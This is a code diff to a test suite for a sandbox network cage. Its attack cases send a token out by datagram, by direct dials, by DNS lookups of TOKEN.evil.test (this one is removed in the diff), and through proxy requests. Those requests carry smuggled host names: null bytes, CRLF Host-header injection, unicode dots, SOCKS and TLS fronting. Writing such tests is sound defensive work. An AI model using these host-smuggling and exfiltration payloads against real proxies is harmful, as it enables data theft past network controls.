@@ -15,8 +15,9 @@ from octavo.sandbox.caged import open_cage
 from octavo.sandbox.net.tunnel import Ports
 from octavo.sandbox.network import CageNetwork
 from octavo.sandbox.run import run_caged
-from octavo.trial.attack import OPEN_NETWORK, Case, Down, Turn, walls
+from octavo.trial.attack import OPEN_NETWORK, Case, Down, Turn
 from octavo.trial.attack.scene import Scene
+from octavo.trial.attack.walls import ADDRESSES, BYTES, HOPS, HOSTS, NAMES, NO_ROUTE, TLS, VERBS
 
 GOOD = "good.example"
 EVIL = (
@@ -57,21 +58,16 @@ for name in list(os.environ):
 attempt(lambda: send(("127.0.0.1", TCP)))
 attempt(lambda: send(("::ffff:127.0.0.1", TCP), socket.AF_INET6))
 attempt(lambda: send(("localhost", TCP)))
-attempt(lambda: send((socket.gethostname(), TCP)))
 """
     return [[scene.python(code)]]
 
 
 def _datagrams(scene: Scene) -> Sequence[Turn]:
     code = """
-def name():
-    return socket.getaddrinfo(TOKEN + ".evil.test", 80)
 def datagram():
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     return sock.sendto(TOKEN.encode(), ("127.0.0.1", UDP))
 attempt(datagram)
-if not LOWERED:
-    attempt(name)
 """
     return [[scene.python(code)]]
 
@@ -103,6 +99,10 @@ def _caged(
         ports = Ports(http=scene.canaries.tcp, https=scene.canaries.tcp)
         served = CageNetwork(network, resolve=resolve, ports=ports)
         async with open_cage(policy, network=served) as cage:
+            await cage.ready()
+            if network.access == "hosts" and not served.environment:
+                scene.missing = "commands have no network here, so there is no list of hosts"
+                return
             _, said = await run_caged(cage, command, timeout_s=TIMEOUT_S, limit_bytes=1 << 16)
         scene.outputs = [said.decode("utf-8", "replace")]
 
@@ -138,8 +138,11 @@ hosts = [b"evil.test\\0.{GOOD}", b"{GOOD}\\0.evil.test", b"evil.test#.{GOOD}",
          b"evil.test?{GOOD}", b"evil.test\\\\@{GOOD}",
          "evil.test\\u3002{GOOD}".encode(), b"evil.test\\r\\nHost: {GOOD}"]
 port = str(TCP).encode()
+path = b"/" + TOKEN.encode()
+if LOWERED:
+    attempt(lambda: send(("127.0.0.1", TCP)))
+    hosts = []
 for host in hosts:
-    path = b"/" + TOKEN.encode()
     attempt(lambda: proxied(b"GET http://" + host + b":" + port + path + b" HTTP/1.1\\r\\n\\r\\n"))
     def socks():
         with socket.create_connection(("127.0.0.1", 1080), 3) as sock:
@@ -151,8 +154,6 @@ for host in hosts:
             sock.sendall(b"GET " + path + b" HTTP/1.1\\r\\n\\r\\n")
             return said, sock.recv(100)
     attempt(socks)
-if LOWERED:
-    attempt(lambda: send(("127.0.0.1", TCP)))
 """
 
 _INWARD = f"""
@@ -249,21 +250,21 @@ def _through_proxy(
 
 
 CASES = (
-    Case(attack="A-34", way="sends a datagram, and looks a name up that says something",
-         wall=walls.NO_ROUTE, bait=_datagrams, harm=_heard, down=OPEN_NETWORK),
-    _through_proxy("A-34", "looks names up that are not allowed", walls.NAMES, _NAMED, _LISTED,
+    Case(attack="A-34", way="sends a datagram that says something",
+         wall=NO_ROUTE, bait=_datagrams, harm=_heard, down=OPEN_NETWORK),
+    _through_proxy("A-34", "looks names up that are not allowed", NAMES, _NAMED, _LISTED,
                    Network("hosts", allow=("*",)), hears_names=True),
-    _through_proxy("A-35", "asks for hosts that begin or end like an allowed one", walls.HOSTS,
+    _through_proxy("A-35", "asks for hosts that begin or end like an allowed one", HOSTS,
                    _PREFIXES, _LISTED, _EVIL_LISTED),
-    _through_proxy("A-36", "puts odd bytes into a host's name", walls.BYTES, _ODD_BYTES, _LISTED, OPEN),
-    _through_proxy("A-37", "asks for this machine in every spelling", walls.ADDRESSES, _INWARD,
+    _through_proxy("A-36", "puts odd bytes into a host's name", BYTES, _ODD_BYTES, _LISTED, OPEN),
+    _through_proxy("A-37", "asks for this machine in every spelling", ADDRESSES, _INWARD,
                    Network("hosts", allow=("*", GOOD)), _LISTED),
-    _through_proxy("A-38", "is sent on to a host that is not allowed", walls.HOPS, _REDIRECTED, _LISTED,
+    _through_proxy("A-38", "is sent on to a host that is not allowed", HOPS, _REDIRECTED, _LISTED,
                    Network("hosts", allow_local=(GOOD, "other.test")), prepare=_sends_on),
-    _through_proxy("A-39", "names another host in TLS than to the proxy", walls.TLS, _FRONTED, _LISTED,
+    _through_proxy("A-39", "names another host in TLS than to the proxy", TLS, _FRONTED, _LISTED,
                    OPEN),
-    Case(attack="A-40", way="dials without the proxy", wall=walls.NO_ROUTE, bait=_dials, harm=_heard,
+    Case(attack="A-40", way="dials without the proxy", wall=NO_ROUTE, bait=_dials, harm=_heard,
          down=OPEN_NETWORK),
-    _through_proxy("A-41", "sends data to a host that is only to be read", walls.VERBS, _POSTS,
+    _through_proxy("A-41", "sends data to a host that is only to be read", VERBS, _POSTS,
                    msgspec.structs.replace(_LISTED, reading_only=True), _LISTED),
 )  # fmt: skip
